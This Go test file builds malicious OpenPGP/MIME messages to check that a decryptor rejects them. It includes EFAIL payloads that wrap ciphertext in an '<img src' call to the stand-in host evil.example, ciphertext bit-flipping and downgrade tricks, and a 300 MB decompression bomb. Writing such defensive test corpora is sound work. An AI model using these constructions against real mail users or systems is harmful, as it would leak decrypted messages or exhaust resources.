package pgpmime_test

import (
	"bytes"
	"compress/flate"
	"crypto/aes"
	"crypto/cipher"
	"slices"
	"strings"
	"sync"

	"github.com/ProtonMail/go-crypto/openpgp/packet"
)

// cipherRecipes attack what is encrypted: they want it opened elsewhere, joined
// with their own, or taken although it was changed.
func cipherRecipes() []recipe {
	const img = "<img src=\"http://evil.example/?"
	return []recipe{
		{"efail-direct", "EFAIL: ciphertext between two halves of an HTML element.", "none", false, func(f *forge) string {
			return f.mail(multipart("mixed", part("Content-Type: text/html", img), pgpMIME(f.armor(f.sealed(f.signed("acme", f.entity())))), part("Content-Type: text/html", "\">")))
		}},
		{"efail-direct-related", "The same in multipart/related.", "none", false, func(f *forge) string {
			return f.mail(multipart("related", part("Content-Type: text/html", img), pgpMIME(f.armor(f.sealed(f.signed("acme", f.entity())))), part("Content-Type: text/html", "\">")))
		}},
		{"efail-inline", "EFAIL: armor between the lines of a text.", "none", false, func(f *forge) string {
			return f.mail(textPart("Dear all, our answer:\n" + f.armor(f.sealed(f.signed("acme", f.words()))) + "\nSend me a copy.\n"))
		}},
		{"efail-inline-html", "EFAIL: armor inside an HTML element.", "none", false, func(f *forge) string {
			return f.mail(part("Content-Type: text/html", img+"\n"+f.armor(f.sealed(f.signed("acme", f.words())))+"\">"))
		}},
		{"efail-two-texts", "An inline block behind a command in clear.", "none", false, func(f *forge) string {
			return f.mail(textPart(f.words() + "\n" + f.armor(f.sealed(f.signed("acme", "Hello\n")))))
		}},
		{"efail-beside", "A command in clear beside a signed and encrypted part.", "none", false, func(f *forge) string {
			return f.mail(multipart("mixed", f.entity(), pgpMIME(f.armor(f.sealed(f.signed("acme", textPart("Hello")))))))
		}},
		{"efail-gadget", "EFAIL: bits flipped in the text, as one does who knows some of it.", "undecryptable integrity", false, func(f *forge) string {
			m := f.sealed(f.signed("acme", f.entity()))
			i := len(m) - 150
			return f.pgp(join(m[:i], flipped(m[i:i+16]), m[i+16:]))
		}},
		{"efail-blocks-moved", "Blocks of ciphertext repeated and moved.", "undecryptable integrity", false, func(f *forge) string {
			m := f.sealed(f.signed("acme", f.entity()))
			i := len(m) - 120
			copy(m[i:], m[i-48:i-16])
			return f.pgp(m)
		}},
		{"mdc-stripped", "The integrity packet is cut off.", "undecryptable integrity", false, func(f *forge) string {
			body := f.rawBody(f.signed("acme", f.entity()), false)
			return f.pgp(join(f.session("us", false, false), rawPacket(18, join([]byte{1}, body))))
		}},
		{"sed", "A packet without integrity protection (tag 9).", "undecryptable unprotected", false, func(f *forge) string {
			return f.pgp(join(f.session("us", false, false), rawPacket(9, f.rawBody(f.signed("acme", f.entity()), true))))
		}},
		{"seipd-to-sed", "A protected packet renamed to one without protection.", "undecryptable unprotected", false, func(f *forge) string {
			body := f.body(f.signed("acme", f.entity()))
			p, _ := firstPacket(body)
			return f.pgp(join(f.session("us", false, false), rawPacket(9, p[1:])))
		}},
		{"aead-draft", "A packet of the withdrawn AEAD draft (tag 20).", "undecryptable unprotected", false, func(f *forge) string {
			return f.pgp(join(f.session("us", false, false), rawPacket(20, append([]byte{1, 9, 2, 0}, make([]byte, 60)...))))
		}},
		{"downgrade-1-2", "A version 6 session key with version 1 data.", "undecryptable malformed", false, func(f *forge) string {
			return f.pgp(join(f.session("us", false, true), f.body(f.signed("acme", f.entity()))))
		}},
		{"downgrade-2-1", "A version 3 session key with version 2 data.", "undecryptable malformed", false, func(f *forge) string {
			return f.pgp(join(f.session("us", false, false), f.body2(f.signed("acme", f.entity()))))
		}},
		{"seipd2-flipped", "One bit of version 2 data flipped.", "undecryptable integrity", false, func(f *forge) string {
			m := join(f.session("us", false, true), f.body2(f.signed("acme", f.entity())))
			m[len(m)-40] ^= 1
			return f.pgp(m)
		}},
		{"truncated", "The last octets are missing.", "undecryptable integrity", false, func(f *forge) string {
			m := f.sealed(f.signed("acme", f.entity()))
			return f.pgp(m[:len(m)-8])
		}},
		{"appended", "A literal packet behind the encrypted data.", "undecryptable malformed", false, func(f *forge) string {
			return f.pgp(join(f.sealed(f.signed("acme", f.entity())), lit("ACK PAR-2026-0002\n")))
		}},
		{"seipd-twice", "Two encrypted packets one behind the other.", "undecryptable malformed", false, func(f *forge) string {
			return f.pgp(join(f.sealed(f.signed("acme", f.entity())), f.body(lit(f.entity()))))
		}},
		{"message-twice", "Two whole messages one behind the other.", "undecryptable malformed", false, func(f *forge) string {
			return f.pgp(join(f.sealed(f.signed("acme", f.entity())), f.sealed(lit(f.entity()))))
		}},
		{"not-encrypted", "Said to be encrypted, and only signed.", "undecryptable not-encrypted", false, func(f *forge) string {
			return f.pgp(f.signed("acme", f.entity()))
		}},
		{"to-globex", "Encrypted to another vendor.", "undecryptable no-key", false, func(f *forge) string {
			return f.pgp(join(f.session("globex", false, false), f.body(f.signed("acme", f.entity()))))
		}},
		{"to-elgamal", "A session key for an Elgamal key that has our number.", "undecryptable no-key", false, func(f *forge) string {
			pkesk := append([]byte{3}, f.session("us", false, false)[3:11]...)
			pkesk = append(pkesk, 16)
			return f.pgp(join(rawPacket(1, join(pkesk, mpi(bytes.Repeat([]byte{0x55}, 256)), mpi(bytes.Repeat([]byte{0x66}, 256)))), f.body(f.signed("acme", f.entity()))))
		}},
		{"hidden-recipient", "The recipient is hidden: it is ours all the same.", "good acme", true, func(f *forge) string {
			return f.pgp(join(f.session("us", true, false), f.body(f.signed("acme", f.entity()))))
		}},
		{"hidden-stranger", "The recipient is hidden, and is not us.", "undecryptable session-key", false, func(f *forge) string {
			return f.pgp(join(f.session("globex", true, false), f.body(f.signed("acme", f.entity()))))
		}},
		{"session-damaged", "A session key for us that is not one.", "undecryptable session-key", false, func(f *forge) string {
			k := f.session("us", false, false)
			k[len(k)-5] ^= 1
			return f.pgp(join(k, f.body(f.signed("acme", f.entity()))))
		}},
		{"password-only", "Encrypted to a password only, which is not tried.", "undecryptable password", false, func(f *forge) string {
			return f.pgp(join(f.password(), f.body(f.signed("acme", f.entity()))))
		}},
		{"password-too", "Encrypted to a password and to us.", "good acme", true, func(f *forge) string {
			return f.pgp(join(f.password(), f.session("us", false, false), f.body(f.signed("acme", f.entity()))))
		}},
		{"session-keys-1001", "A thousand and one session key packets.", "undecryptable malformed", false, func(f *forge) string {
			return f.pgp(join(bytes.Repeat(f.session("globex", false, false), 1001), f.body(f.signed("acme", f.entity()))))
		}},
		{"bomb", "300 MB in a small file.", "undecryptable too-large", false, func(f *forge) string { return f.holding(zip(bomb())) }},
		{"bomb-many", "A bomb in each of many parts.", "undecryptable too-large", false, func(f *forge) string {
			m := f.armor(f.sealed(zip(bomb())))
			parts := []string{f.entity()}
			for range 20 {
				parts = append(parts, pgpMIME(m))
			}
			return f.mail(multipart("mixed", parts...))
		}},
		{"nesting", "Compressed five times over.", "undecryptable nesting", false, func(f *forge) string {
			m := f.signed("acme", f.entity())
			for range 5 {
				m = zip(m)
			}
			return f.holding(m)
		}},
		{"nesting-allowed", "Compressed four times over, which is allowed.", "good acme", true, func(f *forge) string {
			m := f.signed("acme", f.entity())
			for range 4 {
				m = zip(m)
			}
			return f.holding(m)
		}},
		{"quine", "Compressed data that hold data which are not packets.", "undecryptable malformed", false, func(f *forge) string {
			p := zip([]byte("\xc8\xff\xff\xff\xff\xff"))
			return f.holding(p)
		}},
		{"encrypted-inside", "An encrypted message directly inside an encrypted message.", "undecryptable malformed", false, func(f *forge) string {
			return f.holding(f.sealed(f.signed("acme", f.entity())))
		}},
		{"encrypted-mail-inside", "A whole encrypted mail inside an encrypted mail.", "none", false, func(f *forge) string {
			return f.holding(lit(pgpMIME(f.armor(f.sealed(f.signed("acme", f.entity()))))))
		}},
		{"many-parts", "More parts than are read.", "unreadable", false, func(f *forge) string {
			return f.mail("Content-Type: multipart/signed; boundary=b\r\n\r\n" + strings.Repeat("--b\r\n\r\nx\r\n", 1001) + "--b--\r\n")
		}},
		{"multipart-encrypted-three", "A multipart/encrypted with a third part in clear.", "undecryptable malformed", false, func(f *forge) string {
			return f.mail(withPart(pgpMIME(f.armor(f.sealed(f.signed("acme", f.entity())))), f.entity()))
		}},
	}
}

// rawBody is packets under the cipher feedback of OpenPGP with nothing behind
// them that would show a change; with the resynchronisation that packets without
// integrity protection have, or without.
func (f *forge) rawBody(packets []byte, resync bool) []byte {
	f.t.Helper()
	block, err := aes.NewCipher(corpusSession)
	must(f.t, err)
	stream, prefix := packet.NewOCFBEncrypter(block, bytes.Repeat([]byte{1}, 16), packet.OCFBResyncOption(resync))
	return join(prefix, xored(stream, packets))
}

func xored(s cipher.Stream, data []byte) []byte {
	out := make([]byte, len(data))
	s.XORKeyStream(out, data)
	return out
}

func flipped(data []byte) []byte {
	out := bytes.Clone(data)
	for i := range out {
		out[i] ^= 0x20
	}
	return out
}

// password is a packet for whoever knows the word.
func (f *forge) password() []byte {
	f.t.Helper()
	var b bytes.Buffer
	must(f.t, packet.SerializeSymmetricKeyEncryptedReuseKey(&b, corpusSession, []byte("guess"), keyConfig(func(c *packet.Config) { c.DefaultCipher = packet.CipherAES256 })))
	return b.Bytes()
}

// firstPacket splits the first packet of the new format, in pieces or not, off.
func firstPacket(data []byte) (body, rest []byte) {
	p, err := packet.NewOpaqueReader(bytes.NewReader(data)).Next()
	if err != nil {
		return nil, nil
	}
	return p.Contents, nil
}

// bomb is a compressed packet that grows to 300 MB; it is made once.
var bomb = sync.OnceValue(func() []byte {
	const size = 300 << 20
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestSpeed)
	if err != nil {
		panic(err) // of a level that exists
	}
	w.Write(rawPacket(11, nil)[:1])
	w.Write([]byte{255, size >> 24, size >> 16 & 0xff, size >> 8 & 0xff, size & 0xff, 'b', 0, 0, 0, 0, 0})
	zeros := make([]byte, 1<<20)
	for range size / len(zeros) {
		w.Write(zeros)
	}
	w.Close()
	return slices.Clip(rawPacket(8, append([]byte{1}, b.Bytes()...)))
})
